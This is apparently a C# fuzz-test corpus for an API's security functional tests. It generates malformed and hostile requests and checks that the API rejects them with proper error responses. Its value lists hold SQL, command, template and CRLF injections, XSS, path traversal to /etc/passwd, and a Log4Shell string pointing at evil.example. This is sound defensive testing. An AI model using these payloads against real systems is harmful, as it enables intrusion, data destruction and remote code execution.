using System.Text;
using System.Text.Encodings.Web;
using System.Text.Json;

namespace PreSessions.FunctionalTests.Security;

/// <summary>The known state the fuzz runs against: ids, tokens and keys of things valid requests made.</summary>
public sealed record FuzzScene(
    int Wg, string Sur, string OtherSur, string Room, string OtherRoom, string OperatorToken,
    Registered CsoA, Registered NhriB, Registered CsoC, Registered CsoD, Registered Mission, Registered DecliningMission,
    string ConsoleToken, string OtherRoomConsoleToken, string ConsoleTokenId)
{
    public string PreSession => $"/api/wg-sessions/{Wg}/pre-sessions/{Sur}";
}

/// <summary>
/// One hostile request and what the contract lets it get. <see cref="Allowed"/> are the acceptable statuses; a 4xx must
/// be application/problem+json with status, title and detail, and a 400 must carry an <c>errors</c> object (naming
/// <see cref="Field"/> when set, unless <see cref="ErrorsOptional"/>: a body that is not there at all names no field).
/// A 2xx is allowed only where the request is valid by design (public reads that ignore a token, a page).
/// </summary>
public sealed record FuzzRequest(
    int Number, string Endpoint, string Mutation, string Method, string Url, byte[]? Body, string? ContentType,
    string? Authorization, IReadOnlyList<KeyValuePair<string, string>> Headers, int[] Allowed, string? Field = null,
    bool RawUrl = false, bool ErrorsOptional = false, string? SuccessMediaType = null)
{
    public string Describe()
    {
        var text = new StringBuilder($"#{Number} [{Endpoint} / {Mutation}] {Method} {Url}{(RawUrl ? " (sent as written)" : "")}");
        if (Authorization is not null)
            text.Append($"\n      Authorization: {Shorten(Authorization)}");
        foreach (var (name, value) in Headers)
            text.Append($"\n      {name}: {Shorten(value)}");
        if (Body is not null)
            text.Append($"\n      Content-Type: {ContentType ?? "(none)"}; body ({Body.Length} bytes): {Shorten(Printable(Body))}");
        text.Append($"\n      allowed: {string.Join("/", Allowed)}{(Field is null ? "" : $", errors naming \"{Field}\"")}");
        return text.ToString();
    }

    private static string Printable(byte[] body)
    {
        var text = new StringBuilder();
        foreach (var rune in Encoding.UTF8.GetString(body).EnumerateRunes())
            text.Append(rune.Value is < 0x20 or 0x7f or 0xfffd or 0x202e or 0x200d ? $"\\u{rune.Value:x4}" : rune.ToString());
        return text.ToString();
    }

    private static string Shorten(string text) =>
        (text.Length <= 240 ? text : $"{text[..160]}...({text.Length} chars)...{text[^40..]}")
            .Replace("\r", "\\r").Replace("\n", "\\n").Replace("\0", "\\0");
}

/// <summary>
/// A deterministic generator of at least 2,000 malformed or hostile requests over every endpoint: for a given seed and
/// scene the same list in the same order, so a failure is reproduced by running the test again.
/// </summary>
public sealed partial class FuzzCorpus(FuzzScene scene, int seed)
{
    private const int Bad = 400, Unauthorized = 401, Forbidden = 403, NotFound = 404, Method = 405, Unsupported = 415, HeadersTooLarge = 431;

    private readonly Random _random = new(seed);
    private readonly List<FuzzRequest> _requests = [];

    private static readonly JsonSerializerOptions Relaxed = new() { Encoder = JavaScriptEncoder.UnsafeRelaxedJsonEscaping };

    // ---- Hostile values ----------------------------------------------------------------------------------------------

    public static readonly string[] Injections =
    [
        "' OR 1=1 --", "'; DROP TABLE Storage; --", "\" OR \"\"=\"", "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
        "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "%s%s%s%n", "*)(uid=*))(|(uid=*", "; rm -rf / #", "$(id)", "`id`",
        "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "file:///etc/passwd", "javascript:alert(1)", "\u0000",
        "1; WAITFOR DELAY '0:0:5'--", "{\"$gt\":\"\"}", "__proto__", "constructor.prototype", "=cmd|' /C calc'!A0",
    ];

    /// <summary>Path segments as they appear in the URL (already escaped where that is the attack).</summary>
    public static readonly string[] HostileSegments =
    [
        "..%2F..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "..%5C..%5Cwindows%5Cwin.ini", "%252e%252e%252f",
        "....%2F%2F....%2F%2Fetc", "%c0%ae%c0%ae%c0%af", "%00", "abc%00def", "%0D%0ASet-Cookie:%20x=1", "%20", "%09",
        "'%20OR%201=1%20--", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "$%7Bjndi:ldap:%2F%2Fevil%2Fa%7D", "%7B%7B7*7%7D%7D",
        "%F0%9F%87%AB%F0%9F%87%B7", "%E2%80%AE", "%E2%80%8D", "%EF%BB%BF", "%ED%A0%80", "%FF%FE", "-1", "0", "1e3", "NaN",
        "9999999999999999999999", "null", "undefined", "true", "%5B%5D", "%7B%7D", "a;b", "a,b", "*", "~", "%25",
    ];

    /// <summary>Segments HttpClient sends as written only when told to: dot segments that would otherwise be collapsed.</summary>
    public static readonly string[] RawSegments =
    [
        "..", ".", "../..", "../../../etc/passwd", "%2e%2e", "%2e", ".%2e/.%2e/etc", "..;/..;/", "..\\..\\",
    ];

    private static string Long(int length, char c = 'a') => new(c, length);

    // ---- Building blocks --------------------------------------------------------------------------------------------

    private int _number;

    private void Add(string endpoint, string mutation, string method, string url, byte[]? body, string? contentType,
        string? authorization, int[] allowed, string? field = null, IReadOnlyList<KeyValuePair<string, string>>? headers = null,
        bool rawUrl = false, bool errorsOptional = false, string? successMediaType = null) =>
        _requests.Add(new FuzzRequest(++_number, endpoint, mutation, method, url, body, contentType, authorization,
            headers ?? [], allowed, field, rawUrl, errorsOptional, successMediaType));

    private static byte[] Utf8(string text) => Encoding.UTF8.GetBytes(text);

    private static string Str(string value) => JsonSerializer.Serialize(value);

    private static string RawStr(string value) => JsonSerializer.Serialize(value, Relaxed);

    private string Bearer(string token) => "Bearer " + token;

    /// <summary>A JSON object from (key, raw JSON value) pairs, in order, duplicates and all.</summary>
    private static string Object(IEnumerable<(string Key, string Value)> fields) =>
        "{" + string.Join(",", fields.Select(f => $"{Str(f.Key)}:{f.Value}")) + "}";

    private enum Kind { Text, Enum, Sur, Email, Instant, Int, Bool, Themes, Items }

    private sealed record Field(string Name, Kind Kind, string Valid, bool Required, int Max = 0, int Min = 0, string[]? Extra = null);

    /// <summary>An endpoint that reads a JSON body: where, with what token, its fields and a valid body.</summary>
    private sealed record BodyEndpoint(string Name, string Method, string Url, string Token, Field[] Fields, string[]? Headers = null)
    {
        public string Valid => Object(Fields.Select(f => (f.Name, f.Valid)));

        public string With(string name, string value) =>
            Object(Fields.Select(f => (f.Name, f.Name == name ? value : f.Valid)));
    }

    /// <summary>Values that are never valid for a field of this kind, each with the mutation it exercises.</summary>
    private static IEnumerable<(string Mutation, string Json)> Invalid(Field f)
    {
        var wrongTypes = f.Kind switch
        {
            Kind.Int => new[] { "\"60\"", "true", "[]", "{}", "[1]", "60.5", "1e2", "\"\"", "\"NaN\"", "\"Infinity\"" },
            Kind.Bool => ["\"true\"", "1", "0", "\"yes\"", "[]", "{}", "[true]", "\"false\"", "0.0"],
            Kind.Themes => ["\"civic space\"", "5", "true", "{}", "{\"0\":\"a\"}", "[5]", "[true]", "[[\"a\"]]", "[{}]"],
            Kind.Items => ["\"opening\"", "5", "true", "{}", "[5]", "[\"opening\"]", "[[]]", "[true]"],
            _ => ["5", "true", "false", "[]", "{}", "[\"a\"]", "60.5", "-0", "{\"a\":\"b\"}"],
        };
        foreach (var value in wrongTypes)
            yield return ("wrong-type", value);

        if (f.Required)
            yield return ("null", "null");

        switch (f.Kind)
        {
            case Kind.Text:
                yield return ("huge-string", Str(Long(50_000)));
                yield return ("huge-string", Str(Long(f.Max + 1, 'x')));
                yield return ("empty", Str(""));
                yield return ("empty", Str("   \t  "));
                foreach (var control in new[] { "a\u0000b", "line\nbreak", "tab\there", "bell\u0007", "esc\u001b[31m", "del\u007f", "next\u0085line" })
                    yield return ("unicode", Str(control));
                yield return ("unicode", "\"lone \\ud800 surrogate\"");
                yield return ("unicode", "\"lone \\udc00 low surrogate\"");
                yield return ("unicode", "\"reversed \\udc00\\ud800 pair\"");
                yield return ("unicode", RawStr("\u202egnp.exe\u0000"));
                yield return ("unicode", RawStr("👨‍👩‍👧‍👦\u0001"));
                yield return ("unicode", RawStr("Z̵̡̢͇͉a̸̡̛͓l̴̢̛g̷̨̛o̶̧̢\u0002"));
                yield return ("unicode", RawStr(string.Concat(Enumerable.Repeat("🇫🇷", f.Max / 4 + 1))));
                yield return ("unicode", Str(Long(f.Max + 1, '\u200b')));
                yield return ("unicode", RawStr(Long(f.Max + 1, '\ufeff')));
                yield return ("unicode", RawStr(string.Concat(Enumerable.Repeat("e\u0301", f.Max / 2 + 1))));
                foreach (var injection in Injections.Take(8))
                    yield return ("injection", Str(injection + "\u0000"));
                yield return ("injection", Str("Name\r\nX-Injected: true"));
                break;
            case Kind.Enum:
                foreach (var value in new[] { "", "CSO", "Cso", " cso", "ngo", "cso\u0000", "cso\u200d", "ｃｓｏ", "c\u0301so", "opening\u0000", "OPENING", "speaker ", "qa\u200b" })
                    yield return ("unicode", Str(value));
                foreach (var injection in Injections.Take(10))
                    yield return ("injection", Str(injection));
                yield return ("huge-string", Str(Long(50_000)));
                break;
            case Kind.Sur:
                foreach (var value in new[] { "fra", "FR", "FRAN", "ZZZ", "XXX", "FRА", "ＦＲＡ", "FRA\u0000", "F\u0301RA", "🇫🇷", "", "   " })
                    yield return ("unicode", Str(value));
                foreach (var injection in Injections.Take(6))
                    yield return ("injection", Str(injection));
                yield return ("huge-string", Str(Long(50_000, 'A')));
                break;
            case Kind.Email:
                foreach (var value in new[] { "plainaddress", "@no-local.example", "a@b@c", "user@", "a\u0000@example.org", "a@example.org\r\nBcc: victim@example.org", "\ud83d\ude00" })
                    yield return ("unicode", Str(value));
                yield return ("unicode", "\"\\ud800@example.org\"");
                yield return ("huge-string", Str(Long(250) + "@example.org"));
                yield return ("huge-string", Str(Long(50_000)));
                yield return ("injection", Str("<script>alert(1)</script>"));
                yield return ("injection", Str("' OR 1=1 --"));
                break;
            case Kind.Instant:
                foreach (var value in new[]
                {
                    "2017-12-12T10:00:00", "2017-12-12", "10:00", "tomorrow", "2017-13-45T99:99:99+01:00", "2017-12-12T10:00:00+25:00",
                    "0000-00-00T00:00:00Z", "2017-12-12 10:00:00+01:00", "1512000000", "2017-12-12T10:00:00+01:00\u0000",
                    "２０１７-１２-１２T１０:００:００+０１:００", "٢٠١٧-١٢-١٢T١٠:٠٠:٠٠+٠١:٠٠", "2017-12-12T10:00:00.12345678+01:00",
                    "", "2017-12-12T10:00:00+01:00' OR 1=1 --", "${jndi:ldap://evil.example/a}",
                })
                    yield return (value.Any(c => c > 127) ? "unicode" : "injection", Str(value));
                yield return ("huge-number", "1e400");
                yield return ("huge-string", Str("2017-12-12T10:00:00" + Long(50_000, '0') + "+01:00"));
                break;
            case Kind.Int:
                foreach (var value in new[] { "1e400", "-1e400", "9223372036854775808", "-9223372036854775809", "2147483648", "-2147483649", "1e-400", "0.0000001", "1E+2", Long(40, '9'), "1" + Long(5000, '0') })
                    yield return ("huge-number", value);
                foreach (var value in f.Extra ?? [])
                    yield return ("out-of-range", value);
                break;
            case Kind.Bool:
                yield return ("huge-string", Str(Long(50_000)));
                break;
            case Kind.Themes:
                yield return ("null", "[null]");
                yield return ("huge-string", "[" + Str(Long(50_000)) + "]");
                yield return ("out-of-range", "[" + string.Join(",", Enumerable.Range(0, 11).Select(i => Str($"theme {i}"))) + "]");
                yield return ("huge-string", "[" + string.Join(",", Enumerable.Range(0, 5000).Select(_ => "\"t\"")) + "]");
                yield return ("unicode", "[\"\\ud800\"]");
                yield return ("unicode", "[" + Str("a\u0000") + "]");
                yield return ("empty", "[\"\"]");
                break;
            case Kind.Items:
                yield return ("empty", "[]");
                yield return ("null", "[null]");
                yield return ("out-of-range", "[" + string.Join(",", Enumerable.Range(0, 41).Select(_ => "{\"kind\":\"qa\",\"title\":\"Q\",\"allottedSeconds\":60}")) + "]");
                foreach (var item in new[]
                {
                    "{\"kind\":\"teatime\",\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":null,\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":-1}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":14401}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":null}",
                    "{\"kind\":\"qa\",\"title\":null,\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"" + Long(201) + "\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"a\\u0000b\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"organisationId\":\"org-' OR 1=1 --\",\"allottedSeconds\":60}",
                    "{\"kind\":\"speaker\",\"organisationId\":\"../../etc/passwd\",\"allottedSeconds\":60}",
                    "{\"kind\":\"${jndi:ldap://evil.example/a}\",\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":1e400}",
                    "{\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":\"60\"}",
                    "{\"kind\":5,\"title\":\"T\",\"allottedSeconds\":60}",
                    "{\"kind\":\"qa\",\"kind\":\"qa\",\"title\":\"T\",\"allottedSeconds\":60}",
                })
                    yield return ("nested", "[" + item + "]");
                break;
        }
    }

    private static readonly string[] IdempotencyKeys =
    [
        Long(201, 'k'), "has space", "tab\tkey", "ключ-1", "' OR 1=1 --", "key\u0000", "key\u007f", "émoji-🙂", Long(10_000, 'k'),
        "\u202ekey", "key\u200b",
    ];
}
